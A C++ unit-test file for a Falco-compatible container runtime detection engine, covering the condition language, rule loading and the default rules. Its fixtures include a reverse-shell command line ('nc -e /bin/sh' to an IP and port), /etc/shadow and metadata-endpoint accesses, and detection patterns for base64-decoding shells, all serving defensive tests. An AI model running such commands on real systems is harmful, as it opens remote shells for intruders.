// Rule engine: the Falco condition language, lists/macros/overrides/exceptions, three-valued
// evaluation, event-type and filter derivation, outputs, and the shipped and upstream rule files.
#include <gtest/gtest.h>

#include <algorithm>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <sstream>

#include "ecsguard/guard/condition.h"
#include "ecsguard/guard/default_rules.h"
#include "ecsguard/guard/expr.h"
#include "ecsguard/guard/output.h"
#include "ecsguard/guard/rules.h"

namespace ecsguard::guard {
namespace {

// ---- events without a live process --------------------------------------------------------

// argv as the kernel stores it: NUL-separated.
std::string argv0(std::initializer_list<const char*> args) {
  std::string out;
  for (const char* a : args) {
    if (!out.empty()) out += '\0';
    out += a;
  }
  return out;
}

struct World {
  Services svc;
  World() {
    ProcInfo& root = svc.procs.add_root(100, 1);
    root.comm = "nginx";
    root.exepath = "/usr/sbin/nginx";
    root.cmdline = argv0({"nginx", "-g", "daemon off;"});
    ProcInfo* sh = svc.procs.add_process(200, 100, 2);
    sh->comm = "sh";
    sh->exepath = "/usr/bin/dash";
    sh->cmdline = argv0({"sh", "-c", "id"});
    ProcInfo* nc = svc.procs.add_process(300, 200, 3);
    nc->comm = "nc";
    nc->exepath = "/usr/bin/nc.openbsd";
    nc->cmdline = argv0({"nc", "-e", "/bin/sh", "10.0.0.1", "4444"});
  }
};

Event exec_event(pid_t pid) {
  Event ev;
  ev.type = EvtType::kExecve;
  ev.phase = Phase::kExec;
  ev.num = 1;  // evt.num = 0 is the never_true idiom
  ev.tid = pid;
  ev.tgid = pid;
  ev.live = false;
  return ev;
}

Event open_event(pid_t pid, const std::string& path, std::uint64_t flags) {
  Event ev;
  ev.type = EvtType::kOpenat;
  ev.phase = Phase::kEntry;
  ev.tid = pid;
  ev.tgid = pid;
  ev.live = false;
  ev.args = {static_cast<std::uint64_t>(-100), 0x1000, flags, 0644, 0, 0};
  ev.strings[1] = path;
  return ev;
}

Event connect_event(pid_t pid, const std::string& ip, std::uint16_t port) {
  Event ev;
  ev.type = EvtType::kConnect;
  ev.tid = pid;
  ev.tgid = pid;
  ev.live = false;
  SockAddr a;
  auto parsed = IpAddr::parse(ip);
  a.family = parsed->family;
  a.ip = *parsed;
  a.port = port;
  ev.addr = a;
  return ev;
}

Tri eval(const std::string& cond, Event ev, World& w, const Definitions& defs = {}) {
  Compiler c(defs);
  auto e = c.compile_text(cond);
  EXPECT_TRUE(e.ok()) << cond << ": " << (e.ok() ? "" : e.error().message);
  if (!e) return Tri::kUnknown;
  EvalCtx ctx(ev, w.svc);
  return (*e)->eval(ctx);
}

// ---- the condition language ----------------------------------------------------------------

TEST(GuardCondition, ParsesFalcoSyntaxForms) {
  const char* ok[] = {
      "proc.name=sh",
      "fd.typechar='f' and fd.num>=0",
      "evt.type in (open,openat,openat2) and evt.is_open_write=true",
      "not proc.name in (\"<NA>\",\"N/A\")",
      "proc.pname exists and not(proc.name = bash)",
      "proc.name in (runc:[0:PARENT], runc:[1:CHILD], \"puma reactor\")",
      "proc.aname[2]=qualys-cloud-ag or proc.aname[3] startswith google_accounts",
      "fd.name glob '/home/*/.ssh/*' and fd.nameraw contains '../'",
      "evt.rawres >= 0 or evt.res = EINPROGRESS",
      "(never_true and (proc.pname=node and proc.aname[3]=docker-containe))",
      "fd.sport in (ssh_non_standard_ports)",
      "evt.arg.request contains PTRACE_POKETEXT",
      "proc.env[HOME] = /root",
      "evt.type = connect and fd.snet in (\"10.0.0.0/8\", \"172.16.0.0/12\")",
  };
  for (const char* c : ok) {
    auto ast = parse_condition(c);
    EXPECT_TRUE(ast.ok()) << c << ": " << (ast.ok() ? "" : ast.error().message);
  }
}

TEST(GuardCondition, StructureAndValues) {
  auto ast = parse_condition("a and (proc.name in (x, \"y z\", 'q') or not fd.num>=3)");
  ASSERT_TRUE(ast.ok());
  ASSERT_EQ(ast->kind, CondAst::Kind::kAnd);
  ASSERT_EQ(ast->children.size(), 2U);
  EXPECT_EQ(ast->children[0].kind, CondAst::Kind::kMacro);
  EXPECT_EQ(ast->children[0].macro, "a");
  const CondAst& orn = ast->children[1];
  ASSERT_EQ(orn.kind, CondAst::Kind::kOr);
  const CondAst& in = orn.children[0];
  EXPECT_EQ(in.field, "proc.name");
  EXPECT_EQ(in.op, "in");
  ASSERT_EQ(in.values.size(), 3U);
  EXPECT_EQ(in.values[1].text, "y z");
  EXPECT_TRUE(in.values[1].quoted);
  EXPECT_FALSE(in.values[0].quoted);
  const CondAst& ge = orn.children[1].children[0];
  EXPECT_EQ(ge.op, ">=");
  EXPECT_EQ(ge.values[0].text, "3");
}

TEST(GuardCondition, RejectsBrokenInputWithPosition) {
  for (const char* bad : {"proc.name =", "(proc.name = a", "proc.name = a and", "proc.name ~ a",
                          "proc.name in (a b)", "\"unterminated", "proc.name = a )"}) {
    auto ast = parse_condition(bad);
    ASSERT_FALSE(ast.ok()) << bad;
    EXPECT_NE(ast.error().message.find("position"), std::string::npos) << ast.error().message;
  }
}

TEST(GuardCondition, DepthIsCapped) {
  std::string deep(5000, '(');
  deep += "proc.name=a";
  deep += std::string(5000, ')');
  auto ast = parse_condition(deep);
  ASSERT_FALSE(ast.ok());
  EXPECT_NE(ast.error().message.find("deeply"), std::string::npos);
  std::string nots;
  for (int i = 0; i < 3000; ++i) nots += "not ";
  EXPECT_FALSE(parse_condition(nots + "proc.name=a").ok());
}

TEST(GuardCondition, ListItemsAreUnquotedLikeFalco) {
  EXPECT_EQ(unquote_list_item("\"75-system-updat\""), "75-system-updat");
  EXPECT_EQ(unquote_list_item("nginx"), "nginx");
  EXPECT_EQ(unquote_list_item("puma reactor"), "puma reactor");
  EXPECT_EQ(unquote_list_item("\"sh -c node -e \\\"require('nan')\\\"\""),
            "sh -c node -e \"require('nan')\"");
}

// ---- evaluation -------------------------------------------------------------------------------

TEST(GuardEval, ProcessFieldsAndAncestry) {
  World w;
  EXPECT_EQ(
      eval("proc.name = nc and proc.pname = sh and proc.aname[2] = nginx", exec_event(300), w),
      Tri::kTrue);
  EXPECT_EQ(eval("proc.aname in (nginx)", exec_event(300), w), Tri::kTrue);
  EXPECT_EQ(eval("proc.aname in (nc)", exec_event(300), w), Tri::kFalse)
      << "aname excludes the process";
  EXPECT_EQ(eval("proc.cmdline = \"nc -e /bin/sh 10.0.0.1 4444\"", exec_event(300), w), Tri::kTrue);
  EXPECT_EQ(eval("proc.args startswith \"-e /bin/sh\"", exec_event(300), w), Tri::kTrue);
  EXPECT_EQ(
      eval("proc.pcmdline = \"sh -c id\" and proc.pexepath = /usr/bin/dash", exec_event(300), w),
      Tri::kTrue);
  EXPECT_EQ(eval("proc.exe = nc and proc.exepath endswith nc.openbsd", exec_event(300), w),
            Tri::kTrue);
  // The entrypoint has no parent: `exists` is false, comparisons with a missing value are false.
  EXPECT_EQ(eval("proc.pname exists", exec_event(100), w), Tri::kFalse);
  EXPECT_EQ(eval("proc.pname != x", exec_event(100), w), Tri::kFalse);
  EXPECT_EQ(eval("not proc.pname in (x)", exec_event(100), w), Tri::kTrue);
}

TEST(GuardEval, DeadAncestorsStayInTheTree) {
  World w;
  w.svc.procs.on_exit(200);  // sh exits; nc (its child) still runs
  EXPECT_EQ(eval("proc.pname = sh and proc.aname[2] = nginx", exec_event(300), w), Tri::kTrue);
  w.svc.procs.on_exit(300);
  EXPECT_EQ(w.svc.procs.find(200), nullptr);
  EXPECT_EQ(w.svc.procs.entries(), 1U) << "dead entries are released once nothing refers to them";
}

TEST(GuardEval, StringOperators) {
  World w;
  auto ev = open_event(200, "/etc/Shadow-Backup", 1);
  EXPECT_EQ(eval("fd.name icontains SHADOW", ev, w), Tri::kTrue);
  EXPECT_EQ(eval("fd.name contains shadow", ev, w), Tri::kFalse);
  EXPECT_EQ(eval("fd.name glob '/etc/*Backup'", ev, w), Tri::kTrue);
  EXPECT_EQ(eval("fd.name pmatch (/etc)", ev, w), Tri::kTrue);
  EXPECT_EQ(eval("fd.name pmatch (/et)", ev, w), Tri::kFalse) << "pmatch is a path prefix";
  EXPECT_EQ(eval("fd.directory = /etc and fd.filename = Shadow-Backup", ev, w), Tri::kTrue);
  EXPECT_EQ(eval("fd.name bcontains 536861646f77", ev, w), Tri::kTrue);
  EXPECT_EQ(eval("fd.name bstartswith 2f657463", ev, w), Tri::kTrue);
  EXPECT_EQ(eval("fd.typechar = f and fd.type = file", ev, w), Tri::kTrue);
}

TEST(GuardEval, OpenFlagsAndWriteReadPredicates) {
  World w;
  auto wr = open_event(200, "/var/log/syslog", 01 | 01000 | 0100);  // O_WRONLY|O_TRUNC|O_CREAT
  EXPECT_EQ(eval("evt.is_open_write = true and evt.is_open_read = false", wr, w), Tri::kTrue);
  EXPECT_EQ(eval("evt.arg.flags contains O_TRUNC and evt.arg.flags contains O_WRONLY", wr, w),
            Tri::kTrue);
  EXPECT_EQ(eval("evt.arg.flags = \"O_WRONLY|O_CREAT|O_TRUNC\"", wr, w), Tri::kTrue);
  EXPECT_EQ(eval("evt.arg.mode = 0644", wr, w), Tri::kTrue);
  auto exe = open_event(200, "/tmp/x", 01 | 0100);
  exe.args[3] = 0755;
  EXPECT_EQ(eval("evt.is_open_exec = true", exe, w), Tri::kTrue);
  auto rd = open_event(200, "/etc/shadow", 0);
  EXPECT_EQ(eval("evt.is_open_read = true and evt.is_open_write = false", rd, w), Tri::kTrue);
}

TEST(GuardEval, ResultFieldsAreUnknownAtEntryAndKnownAtExit) {
  World w;
  auto ev = open_event(200, "/var/log/syslog", 01);
  EXPECT_EQ(eval("fd.num >= 0", ev, w), Tri::kUnknown);
  EXPECT_EQ(eval("fd.num >= 0 and fd.name = /nope", ev, w), Tri::kFalse) << "Kleene and";
  EXPECT_EQ(eval("fd.num >= 0 or fd.name = /var/log/syslog", ev, w), Tri::kTrue) << "Kleene or";
  EXPECT_EQ(eval("not evt.res = SUCCESS", ev, w), Tri::kUnknown);
  ev.phase = Phase::kExit;
  ev.result = 5;
  EXPECT_EQ(eval("fd.num >= 0 and evt.res = SUCCESS and evt.rawres = 5", ev, w), Tri::kTrue);
  ev.result = -13;
  EXPECT_EQ(eval("fd.num = -1 and evt.res = EACCES and evt.failed = true", ev, w), Tri::kTrue);
}

TEST(GuardEval, Dup2ResultIsItsNewFdAtEntry) {
  World w;
  Event ev;
  ev.type = EvtType::kDup2;
  ev.tid = ev.tgid = 300;
  ev.live = false;
  ev.args = {5, 1, 0, 0, 0, 0};
  EXPECT_EQ(eval("evt.rawres in (0, 1, 2)", ev, w), Tri::kTrue);
  ev.args[1] = 7;
  EXPECT_EQ(eval("evt.rawres in (0, 1, 2)", ev, w), Tri::kFalse);
}

TEST(GuardEval, NetworkFieldsNetsAndMappedAddresses) {
  World w;
  auto ev = connect_event(300, "169.254.169.254", 80);
  EXPECT_EQ(eval("fd.sip = 169.254.169.254 and fd.sport = 80 and fd.typechar = 4", ev, w),
            Tri::kTrue);
  EXPECT_EQ(eval("fd.snet in (\"169.254.0.0/16\")", ev, w), Tri::kTrue);
  EXPECT_EQ(eval("fd.snet in (\"10.0.0.0/8\", \"192.168.0.0/16\")", ev, w), Tri::kFalse);
  EXPECT_EQ(eval("fd.ip != \"0.0.0.0\"", ev, w), Tri::kTrue);
  EXPECT_EQ(eval("fd.sockfamily = ip and fd.type = ipv4", ev, w), Tri::kTrue);
  EXPECT_EQ(eval("fd.name contains \"->169.254.169.254:80\"", ev, w), Tri::kTrue);
  auto mapped = connect_event(300, "::ffff:10.1.2.3", 443);
  EXPECT_EQ(eval("fd.sip = 10.1.2.3 and fd.snet in (\"10.0.0.0/8\")", mapped, w), Tri::kTrue);
  EXPECT_EQ(eval("fd.type = ipv6", mapped, w), Tri::kTrue);
}

TEST(GuardEval, ListsExpandRecursivelyAndMacrosNest) {
  World w;
  Definitions d;
  d.lists["shells"] = {"sh", "bash"};
  d.lists["more"] = {"shells", "\"zsh\"", "fish"};
  d.macros["is_shell"] = "proc.name in (more)";
  d.macros["shell_in_tree"] = "is_shell and proc.aname in (nginx)";
  EXPECT_EQ(eval("shell_in_tree", exec_event(200), w, d), Tri::kTrue);
  EXPECT_EQ(eval("proc.name in (more)", exec_event(300), w, d), Tri::kFalse);
  EXPECT_EQ(eval("proc.name in more", exec_event(200), w, d), Tri::kTrue)
      << "list without parentheses";
  EXPECT_EQ(eval("proc.name in (\"more\")", exec_event(200), w, d), Tri::kFalse)
      << "quoted = literal";
}

TEST(GuardEval, RegexIsRe2AndMatchesTheWholeValue) {
  World w;
  EXPECT_EQ(eval("proc.cmdline regex 'nc -e .* [0-9]+'", exec_event(300), w), Tri::kTrue);
  EXPECT_EQ(eval("proc.name regex 'n'", exec_event(300), w), Tri::kFalse) << "anchored both ends";
  EXPECT_EQ(eval("proc.name regex '(?i)NC'", exec_event(300), w), Tri::kTrue);
  EXPECT_EQ(eval("proc.aname regex 'ngin.'", exec_event(300), w), Tri::kTrue) << "any ancestor";
  // Linear time: a pattern that is catastrophic for backtracking engines returns at once.
  ProcInfo* p = w.svc.procs.add_process(400, 100, 4);
  p->comm = "x";
  p->cmdline = std::string(5000, 'a') + "!";
  EXPECT_EQ(eval("proc.cmdline regex '(a+)+$'", exec_event(400), w), Tri::kFalse);
}

TEST(GuardEval, FieldTransformers) {
  World w;
  ProcInfo* p = w.svc.procs.add_process(400, 100, 4);
  p->comm = "Python3";
  p->exepath = "/usr/bin/Python3.11";
  p->cmdline = argv0({"Python3", "-c", "pass"});
  EXPECT_EQ(eval("tolower(proc.name) = python3", exec_event(400), w), Tri::kTrue);
  EXPECT_EQ(eval("toupper(proc.name) = PYTHON3", exec_event(400), w), Tri::kTrue);
  EXPECT_EQ(eval("basename(proc.exepath) = Python3.11", exec_event(400), w), Tri::kTrue);
  EXPECT_EQ(eval("tolower(basename(proc.exepath)) startswith python", exec_event(400), w),
            Tri::kTrue);
  EXPECT_EQ(eval("len(proc.name) = 7 and len(proc.name) > 6", exec_event(400), w), Tri::kTrue);
  EXPECT_EQ(eval("len(basename(proc.exepath)) >= 10", exec_event(400), w), Tri::kTrue);
  ProcInfo* enc = w.svc.procs.add_process(500, 100, 5);
  enc->comm = "aWQgLXU=";  // base64 of "id -u"
  EXPECT_EQ(eval("b64(proc.name) = \"id -u\"", exec_event(500), w), Tri::kTrue);
  EXPECT_EQ(eval("b64(proc.aname) exists", exec_event(400), w), Tri::kFalse)
      << "not base64: the extraction fails";
  EXPECT_EQ(eval("tolower(proc.aname) in (nginx)", exec_event(400), w), Tri::kTrue);
  // Rendered back with the transformers.
  auto ast = parse_condition("tolower( basename(fd.name) ) = x");
  ASSERT_TRUE(ast.ok());
  EXPECT_EQ(to_string(*ast), "tolower(basename(fd.name)) = x");
  EXPECT_FALSE(parse_condition("tolower(x) = y").ok()) << "a transformer takes a field";
  EXPECT_FALSE(parse_condition("tolower(proc.name = y").ok());
}

TEST(GuardEval, CompileErrorsNameTheReason) {
  Definitions d;
  d.macros["loop"] = "loop";
  d.macros["k8s_only"] = "container.mount.dest[/etc] exists";
  struct Case {
    const char* cond;
    core::Errc code;
    const char* text;
  } cases[] = {
      {"proc.nonexistent = x", core::Errc::kUnsupported, "unknown field"},
      {"evt.buffer contains x", core::Errc::kUnsupported, "never traced"},
      {"val(proc.name) = sh", core::Errc::kUnsupported, "transformer val"},
      {"proc.name = tolower(proc.pname)", core::Errc::kUnsupported, "right side"},
      {"proc.name regex 'a(b'", core::Errc::kInvalid, "invalid regex"},
      {"proc.pid regex '1.*'", core::Errc::kInvalid, "cannot be applied"},
      {"tolower(proc.pid) = 1", core::Errc::kInvalid, "non-string"},
      {"len(proc.name) = abc", core::Errc::kInvalid, "not a number"},
      {"k8s_only", core::Errc::kUnsupported, "(in macro 'k8s_only')"},
      {"undefined_macro", core::Errc::kInvalid, "undefined macro"},
      {"loop", core::Errc::kInvalid, "refers to itself"},
      {"proc.pid = abc", core::Errc::kInvalid, "not a number"},
      {"fd.sip = not-an-ip", core::Errc::kInvalid, "IP address"},
      {"proc.name < 3", core::Errc::kInvalid, "cannot be applied"},
      {"proc.name in (missing_list_ref) and proc.name in missing_list", core::Errc::kInvalid,
       "undefined list"},
  };
  for (const auto& c : cases) {
    Compiler comp(d);
    auto e = comp.compile_text(c.cond);
    ASSERT_FALSE(e.ok()) << c.cond;
    EXPECT_EQ(e.error().code, c.code) << c.cond << ": " << e.error().message;
    EXPECT_NE(e.error().message.find(c.text), std::string::npos)
        << c.cond << ": " << e.error().message;
  }
}

TEST(GuardEval, KubernetesFieldsHaveNoValueOnEcs) {
  World w;
  EXPECT_EQ(eval("k8s.ns.name = kube-system", exec_event(200), w), Tri::kFalse);
  EXPECT_EQ(eval("not k8s.ns.name in (kube-system)", exec_event(200), w), Tri::kTrue);
  EXPECT_EQ(eval("container.privileged = true", exec_event(200), w), Tri::kFalse);
}

TEST(GuardEval, EventTypesArePositiveAndNegativeSets) {
  Definitions d;
  Compiler c(d);
  auto a = c.compile_text("evt.type in (open, openat) and proc.name = x");
  ASSERT_TRUE(a.ok());
  EvtTypes t = (*a)->evttypes();
  EXPECT_EQ(t.pos.count(), 2U);
  EXPECT_TRUE(t.pos.test(evt_index(EvtType::kOpenat)));
  auto n = c.compile_text("not evt.type = connect");
  EXPECT_EQ((*n)->evttypes().pos.count(), kEvtCount - 1);
  auto any = c.compile_text("proc.name = x");
  EXPECT_TRUE((*any)->evttypes().pos.all());
  auto never = c.compile_text("evt.type = sendto");
  EXPECT_TRUE((*never)->evttypes().pos.none());
}

// ---- rule files -------------------------------------------------------------------------------

std::unique_ptr<RuleSet> load(std::vector<std::string> texts) {
  std::vector<RuleSource> src;
  for (std::size_t i = 0; i < texts.size(); ++i)
    src.push_back({"f" + std::to_string(i) + ".yaml", texts[i]});
  return load_rules(src);
}

bool has_diag(const RuleSet& rs, Diagnostic::Level level, const std::string& text) {
  return std::any_of(rs.diagnostics.begin(), rs.diagnostics.end(), [&](const Diagnostic& d) {
    return d.level == level && d.message.find(text) != std::string::npos;
  });
}

constexpr const char* kBase = R"(
- required_engine_version: 0.26.0
- list: shells
  items: [sh, bash]
- macro: spawned_process
  condition: evt.type in (execve, execveat)
- macro: user_known
  condition: (evt.num=0)
- rule: Shell
  desc: a shell
  condition: spawned_process and proc.name in (shells) and not user_known
  output: shell %proc.name parent=%proc.pname gparent=%proc.aname[2] bogus=%no.such.field
  priority: warning
  tags: [t1]
)";

TEST(GuardRules, LoadsCompilesAndIndexes) {
  auto rs = load({kBase});
  EXPECT_FALSE(rs->has_errors());
  ASSERT_EQ(rs->rules.size(), 1U);
  const CompiledRule& r = rs->rules[0];
  EXPECT_EQ(r.priority, Priority::kWarning);
  EXPECT_EQ(rs->by_type[evt_index(EvtType::kExecve)].size(), 1U);
  EXPECT_EQ(rs->by_type[evt_index(EvtType::kOpenat)].size(), 0U);
  EXPECT_TRUE(rs->needs.events.none()) << "exec rules need no filter entry";
  EXPECT_TRUE(has_diag(*rs, Diagnostic::Level::kInfo, "no.such.field"));
  World w;
  auto ev = exec_event(200);
  EvalCtx ctx(ev, w.svc);
  EXPECT_EQ(r.condition->eval(ctx), Tri::kTrue);
  Alert a;
  r.output.render(ctx, a);
  EXPECT_EQ(a.output, "shell sh parent=nginx gparent=<NA> bogus=<NA>");
  ASSERT_GE(a.fields.size(), 3U);
  EXPECT_EQ(a.fields[0].first, "proc.name");
  EXPECT_EQ(std::get<std::string>(a.fields[0].second), "sh");
  EXPECT_TRUE(std::holds_alternative<std::monostate>(a.fields[2].second));
}

TEST(GuardRules, AppendAndOverrideListsMacrosRules) {
  auto rs = load({kBase, R"(
- list: shells
  items: [zsh]
  override:
    items: append
- macro: user_known
  condition: (proc.pname = nginx)
  override:
    condition: replace
- rule: Shell
  condition: and proc.name != bash
  append: true
- rule: Shell
  priority: critical
  tags: [t2]
  override:
    priority: replace
    tags: append
)"});
  EXPECT_FALSE(rs->has_errors());
  ASSERT_EQ(rs->rules.size(), 1U);
  EXPECT_EQ(rs->rules[0].priority, Priority::kCritical);
  EXPECT_EQ(rs->rules[0].tags, (std::vector<std::string>{"t1", "t2"}));
  World w;
  auto sh = exec_event(200);  // parent nginx: now a known activity
  EvalCtx c1(sh, w.svc);
  EXPECT_EQ(rs->rules[0].condition->eval(c1), Tri::kFalse);
  w.svc.procs.find(300)->comm = "zsh";  // parent sh, name from the appended list item
  auto zsh = exec_event(300);
  EvalCtx c2(zsh, w.svc);
  EXPECT_EQ(rs->rules[0].condition->eval(c2), Tri::kTrue);
}

TEST(GuardRules, EnabledToggleAndRedefinition) {
  auto rs = load({kBase, "- rule: Shell\n  enabled: false\n"});
  EXPECT_TRUE(rs->rules.empty());
  ASSERT_NE(rs->info("Shell"), nullptr);
  EXPECT_NE(rs->info("Shell")->reason.find("enabled: false"), std::string::npos);
  auto re = load({kBase,
                  "- rule: Shell\n  desc: d\n  condition: evt.type = ptrace\n  output: o\n  "
                  "priority: info\n"});
  ASSERT_EQ(re->rules.size(), 1U);
  EXPECT_EQ(re->rules[0].priority, Priority::kInformational);
  EXPECT_TRUE(re->needs.events.test(evt_index(EvtType::kPtrace)));
}

TEST(GuardRules, ExceptionsBecomeAndNotClauses) {
  auto rs = load({kBase, R"(
- rule: Shell
  exceptions:
    - name: by_parent
      fields: [proc.pname, proc.name]
      comps: [=, in]
      values:
        - [nginx, [sh, dash]]
    - name: by_cmdline
      fields: proc.cmdline
      values: ["nc -e /bin/sh 10.0.0.1 4444"]
  override:
    exceptions: append
)"});
  ASSERT_FALSE(rs->has_errors());
  ASSERT_EQ(rs->rules.size(), 1U);
  World w;
  auto sh = exec_event(200);
  EvalCtx c1(sh, w.svc);
  EXPECT_EQ(rs->rules[0].condition->eval(c1), Tri::kFalse) << "excepted by parent+name";
  w.svc.procs.find(300)->comm = "bash";
  auto b = exec_event(300);
  EvalCtx c2(b, w.svc);
  EXPECT_EQ(rs->rules[0].condition->eval(c2), Tri::kTrue);
}

TEST(GuardRules, BrokenInputIsAnErrorUnsupportedIsAReason) {
  auto rs = load({R"(
- rule: Bad syntax
  desc: d
  condition: proc.name = (
  output: o
  priority: warning
- rule: Needs k8s mounts
  desc: d
  condition: evt.type = execve and container.mount.dest[/var/run/docker.sock] exists
  output: o
  priority: warning
- rule: Reads only
  desc: d
  condition: evt.type in (read, sendto)
  output: o
  priority: warning
- rule: Other source
  desc: d
  condition: ka.verb = create
  output: o
  priority: warning
  source: k8s_audit
- rule: Low
  desc: d
  condition: evt.type = execve
  output: o
  priority: debug
- macro: x
  condition: proc.name = a
  append: true
- list: y
  items: 5
- bogus_item: 1
)"});
  EXPECT_TRUE(rs->has_errors());
  EXPECT_TRUE(has_diag(*rs, Diagnostic::Level::kError, "condition:"));
  EXPECT_TRUE(has_diag(*rs, Diagnostic::Level::kError, "appended to, but not defined"));
  EXPECT_TRUE(has_diag(*rs, Diagnostic::Level::kError, "items must be a list"));
  EXPECT_TRUE(has_diag(*rs, Diagnostic::Level::kError, "unknown item"));
  EXPECT_NE(rs->info("Needs k8s mounts")->reason.find("mount table"), std::string::npos);
  EXPECT_NE(rs->info("Reads only")->reason.find("does not trace: read, sendto"), std::string::npos);
  EXPECT_NE(rs->info("Other source")->reason.find("k8s_audit"), std::string::npos);
  EXPECT_TRUE(rs->info("Low")->enabled);
  auto filtered = load_rules({{"f",
                               "- rule: Low\n  desc: d\n  condition: evt.type = execve\n  output: "
                               "o\n  priority: debug\n"}},
                             LoadOptions{Priority::kNotice});
  EXPECT_FALSE(filtered->info("Low")->enabled);
}

TEST(GuardRules, YamlErrorsAndLimits) {
  auto rs = load({"- rule: [unclosed"});
  EXPECT_TRUE(rs->has_errors());
  std::string bomb = "- list: a\n  items: &a [x, x, x, x, x, x, x, x, x, x]\n";
  std::string prev = "a";
  for (int i = 0; i < 12; ++i) {
    std::string n = "l" + std::to_string(i);
    bomb += "- list: " + n + "\n  items: &" + n + " [*" + prev + ", *" + prev + ", *" + prev +
            ", *" + prev + ", *" + prev + ", *" + prev + ", *" + prev + ", *" + prev + ", *" +
            prev + ", *" + prev + "]\n";
    prev = n;
  }
  auto b = load({bomb});
  EXPECT_TRUE(b->has_errors()) << "alias expansion is bounded";
}

TEST(GuardRules, TraceNeedsFollowTheConditions) {
  auto writes = load({R"(
- rule: W
  desc: d
  condition: evt.type in (open, openat) and evt.is_open_write=true and fd.name startswith /etc
  output: o
  priority: error
- rule: Dup
  desc: d
  condition: evt.type in (dup2, dup3) and evt.rawres in (0, 1, 2)
  output: o
  priority: error
)"});
  EXPECT_TRUE(writes->needs.events.test(evt_index(EvtType::kOpenat)));
  EXPECT_FALSE(writes->needs.open_reads) << "a write-only condition never matches a read open";
  EXPECT_FALSE(writes->needs.dup_any_fd);
  auto reads = load({R"(
- rule: R
  desc: d
  condition: evt.type = openat and fd.name = /etc/shadow
  output: o
  priority: error
- rule: D
  desc: d
  condition: evt.type = dup2 and fd.type = ipv4
  output: o
  priority: error
- rule: Drift
  desc: d
  condition: evt.type = execve and proc.is_exe_upper_layer = true
  output: o
  priority: error
- rule: Dns
  desc: d
  condition: evt.type = connect and fd.sip.name in (pool.example.org)
  output: o
  priority: error
)"});
  EXPECT_TRUE(reads->needs.open_reads);
  EXPECT_TRUE(reads->needs.dup_any_fd);
  EXPECT_TRUE(reads->needs.drift);
  EXPECT_EQ(reads->needs.dns_names, (std::vector<std::string>{"pool.example.org"}));
}

TEST(GuardEval, AppStartUpEndsAtTheFirstListenOrTheWindow) {
  World w;
  AppState& app = w.svc.app;
  app.start_boot_ns = now_boot_ns();
  app.window_ns = 0;
  EXPECT_FALSE(app.started(app.start_boot_ns + 3600'000'000'000LL)) << "no window: listen only";
  EXPECT_EQ(eval("app.started = true", exec_event(200), w), Tri::kFalse);
  EXPECT_EQ(eval("app.exepath exists", exec_event(200), w), Tri::kFalse);
  app.window_ns = 5'000'000'000LL;
  EXPECT_FALSE(app.started(app.start_boot_ns + 4'999'999'999LL));
  EXPECT_TRUE(app.started(app.start_boot_ns + 5'000'000'000LL));
  app.window_ns = 0;
  app.on_listen(now_boot_ns(), "/usr/sbin/nginx");
  app.on_listen(now_boot_ns(), "/usr/bin/other");  // only the first listener is the app
  EXPECT_EQ(eval("app.started = true and app.exepath = /usr/sbin/nginx", exec_event(200), w),
            Tri::kTrue);
  EXPECT_EQ(eval("app.is_own_exe = true", exec_event(100), w), Tri::kTrue);
  EXPECT_EQ(eval("app.is_own_exe = true", exec_event(200), w), Tri::kFalse);
}

TEST(GuardRules, DefaultRun001RuleKnowsTheAppAndReportsOnce) {
  auto rs = load_rules({{"default", std::string(default_rules_yaml())}});
  EXPECT_TRUE(rs->needs.app_start) << "listen() ends the start-up: it must be traced";
  EXPECT_TRUE(rs->needs.events.test(evt_index(EvtType::kListen)));
  World w;
  Services& svc = w.svc;
  auto fired = [&](pid_t pid) {
    std::vector<std::string> names;
    Event ev = exec_event(pid);
    EvalCtx ctx(ev, svc);
    for (const CompiledRule* r : rs->by_type[evt_index(EvtType::kExecve)]) {
      if (r->condition->eval(ctx) == Tri::kTrue) names.push_back(r->name);
    }
    return names;
  };
  // Before start-up is over: only the name-list rule (nginx is a known server) speaks.
  EXPECT_EQ(fired(200), (std::vector<std::string>{"Shell spawned by an application server"}));
  svc.app.on_listen(now_boot_ns(), "/usr/sbin/nginx");
  // After: one RUN-001 alert (the app rule), not two; nc is RUN-001 too, not also RUN-003.
  EXPECT_EQ(fired(200),
            (std::vector<std::string>{"Shell or tool spawned by the application after start-up"}));
  auto nc = fired(300);
  EXPECT_EQ(std::count(nc.begin(), nc.end(), "Launch Suspicious Network Tool in Container"), 0);
  EXPECT_EQ(
      std::count(nc.begin(), nc.end(), "Shell or tool spawned by the application after start-up"),
      1);
  // A python app whose shell spawns python3 -c: an interpreter; the app's own binary is not.
  ProcInfo* py = svc.procs.add_process(400, 100, 4);
  py->comm = "python3.11";
  py->exepath = "/usr/bin/python3.11";
  py->cmdline = argv0({"python3", "-c", "import pty"});
  EXPECT_EQ(fired(400),
            (std::vector<std::string>{"Shell or tool spawned by the application after start-up"}));
  ProcInfo* self = svc.procs.add_process(500, 100, 5);
  self->comm = "nginx";
  self->exepath = "/usr/sbin/nginx";
  EXPECT_TRUE(fired(500).empty());
}

TEST(GuardRules, RulesUsingRegexAndTransformersLoadEnabled) {
  auto rs = load({R"(
- rule: Base64 shell payload
  desc: d
  condition: evt.type = execve and tolower(proc.name) in (sh, bash) and proc.cmdline regex '.*base64 -d.*'
  output: o
  priority: warning
- rule: Long hidden name
  desc: d
  condition: evt.type = execve and len(basename(proc.exepath)) > 40 and basename(proc.exepath) startswith .
  output: o
  priority: notice
- rule: Right-side transformer
  desc: d
  condition: evt.type = execve and proc.name = val(proc.pname)
  output: o
  priority: notice
)"});
  EXPECT_TRUE(rs->info("Base64 shell payload")->enabled)
      << rs->info("Base64 shell payload")->reason;
  EXPECT_TRUE(rs->info("Long hidden name")->enabled) << rs->info("Long hidden name")->reason;
  EXPECT_FALSE(rs->info("Right-side transformer")->enabled);
  EXPECT_NE(rs->info("Right-side transformer")->reason.find("val"), std::string::npos);
}

// ---- shipped and upstream rules ------------------------------------------------------------

TEST(GuardRules, DefaultFargateRulesLoadCleanlyAndCoverRun001To011) {
  auto rs = load_rules({{"default", std::string(default_rules_yaml())}});
  for (const auto& d : rs->diagnostics) {
    EXPECT_NE(d.level, Diagnostic::Level::kError) << d.item << ": " << d.message;
  }
  std::set<std::string> ids;
  for (const auto& r : rs->rules) {
    for (const auto& t : r.tags) {
      if (t.rfind("RUN-", 0) == 0) ids.insert(t);
    }
  }
  for (int i = 1; i <= 11; ++i) {
    char id[8];
    std::snprintf(id, sizeof id, "RUN-%03d", i);
    EXPECT_EQ(ids.count(id), 1U) << id << " has no enabled default rule";
  }
